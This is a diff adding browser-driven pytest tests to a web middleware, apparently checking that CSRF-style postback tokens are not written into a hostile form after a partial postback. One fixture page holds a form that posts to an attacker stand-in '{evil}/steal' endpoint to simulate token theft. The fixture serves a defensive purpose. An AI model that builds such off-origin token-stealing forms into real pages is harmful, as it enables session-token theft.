@@ -87,6 +87,7 @@ class Recorder:
             self.seen.append(Received(environ["REQUEST_METHOD"], path, fields,
                                       None if event is None else (event.target, event.argument)))
         get = environ["REQUEST_METHOD"] == "GET" and not query
+        partial = "HTTP_X_POSTBACK_PANELS" in environ  # (answered with its whole page again)
         headers = [("Content-Type", "text/html; charset=utf-8"), ("Cache-Control", "no-store"),
                    *cors]
         pieces = self.streamed.get(path) if get else None
@@ -94,7 +95,7 @@ class Recorder:
             first, second = pieces(self.other_origin)
             start_response("200 OK", headers)
             return (piece.encode() for piece in (HEAD + first, second + "</body></html>"))
-        make = self.pages.get(path) if get else None
+        make = self.pages.get(path) if get or partial else None
         body = make(self.other_origin) if make is not None else (
             f"<p id=answer>{html.escape(environ['REQUEST_METHOD'])} {html.escape(path)}</p>")
         data = f"{HEAD}{body}</body></html>".encode()
@@ -114,6 +115,17 @@ class Recorder:
 
 FIELD = '<input name="note" value="kept">'
 LINK = '<a href="#" id="link" data-postback="save" data-postback-argument="7">Save 7</a>'
+
+def shifted_forms(form: str) -> str:
+    """A post form in a ``<table>`` (the browser puts its hidden fields beside it, in the
+    table), a post form with a partial postback, and a panel that shows what a user wrote:
+    ``form`` left open, with an ``__EVENTTARGET`` of its own (the middleware gives it nothing)."""
+    return ('<table><form method="post"><tr><td><input name="qty" value="1"></td></tr></form>'
+            '</table><form id="main" method="post"><a href="#" id="plink" data-postback="refresh"'
+            ' data-postback-panel="comments">Refresh</a></form>'
+            f'<div id="comments" data-update-panel><p>A comment:</p>{form}'
+            f'<input name="__EVENTTARGET" value="">{FIELD}</div>')
+
 
 # path -> page body, given the other origin ("http://127.0.0.1:PORT")
 PAGES: dict[str, Callable[[str], str]] = {
@@ -154,6 +166,10 @@ PAGES: dict[str, Callable[[str], str]] = {
     "/home/noscript-closed-form": lambda evil: (
         '<noscript><form method="get" action="/search"><input name=q></form></noscript>'
         f'<form method="post" action="/save">{FIELD}<button id="go">Go</button></form>'),
+    # (a partial postback's answer: its fields are written into the forms the client counts)
+    "/leak/panel-off-origin-form": lambda evil: shifted_forms(
+        f'<form method="post" action="{evil}/steal">'),
+    "/leak/panel-get-form": lambda evil: shifted_forms('<form method="get" action="/search">'),
     "/home/base/page": lambda evil: (
         '<base href="/home/">'
         f'<form method="post" action="save">{FIELD}{LINK}'
@@ -319,6 +335,54 @@ def test_forms_read_as_the_browser_reads_them_carry_no_tokens_away(
     if elsewhere:
         received = recorders[1].wait_for(method, urllib.parse.unquote(where, "latin-1"))
         assert received.fields["note"] == "kept" and not set(TOKENS) & set(received.fields)
+
+
+@pytest.mark.parametrize(
+    ("path", "method", "where", "elsewhere"),
+    [
+        pytest.param("/leak/panel-off-origin-form", "POST", "/steal", True, id="off-origin-form"),
+        pytest.param("/leak/panel-get-form", "GET", "/search", False, id="get-form"),
+    ],
+)
+def test_no_tokens_move_into_a_panels_form_that_sends_them_away(
+    browser_page: Any, servers: tuple[Recorder, str, Recorder, str],
+    recorders: tuple[Recorder, Recorder], path: str, method: str, where: str, elsewhere: bool,
+) -> None:
+    """A partial postback's answer lists the fresh fields of the forms the middleware gave
+    fields, and the client writes them by position into the forms holding an ``__EVENTTARGET``.
+    Here both count two, shifted: the client does not count the form in the ``<table>`` (its
+    fields are the table's children) and counts the panel's form (a user's ``__EVENTTARGET``).
+    Written, ``#main``'s fresh tokens would land in the panel's form, which a script's
+    ``form.submit()`` (no submit event: nothing withholds them) sends away. The client reloads
+    the page by GET instead, writing no tokens."""
+    app_url = servers[1]
+    target = servers[3] if elsewhere else app_url
+    page = browser_page
+    markup = open_page(page, servers, path)
+    assert markup.count('name="__VIEWSTATE"') == 2  # the table's form and #main
+    assert page.evaluate("[].filter.call(document.forms, "
+                         "f => f.querySelector('[name=__EVENTTARGET]')).length") == 2
+    page.evaluate("window.before = true")
+    with page.expect_response(lambda r: r.request.method == "POST" and r.url == app_url + path
+                              ) as answer:
+        page.click("#plink")
+    assert answer.value.headers["x-postback-partial"] == "panels"
+    # reloaded, or the panel's form holds tokens: then a script submits that form
+    page.wait_for_function("!window.before && typeof __doPostBack === 'function' || "
+                           "!!document.forms[2].querySelector('[name=__VIEWSTATE]')")
+    reloaded = page.evaluate("!window.before")
+    with page.expect_request(lambda r: r.url.startswith(target + where)) as submitted:
+        page.evaluate("HTMLFormElement.prototype.submit.call(document.forms[2])")
+    request = submitted.value
+    sent = sent_fields(request)
+    assert (request.method, sent["note"]) == (method, "kept")
+    assert not set(TOKENS) & set(sent) and not any(token in request.url for token in TOKENS)
+    if elsewhere:
+        received = recorders[1].wait_for(method, where)
+        assert received.fields["note"] == "kept" and not set(TOKENS) & set(received.fields)
+    assert reloaded
+    # the partial postback itself was verified (the app was called with its event)
+    assert [r.event for r in recorders[0].seen if r.method == "POST"] == [("refresh", "")]
 
 
 @pytest.mark.parametrize(
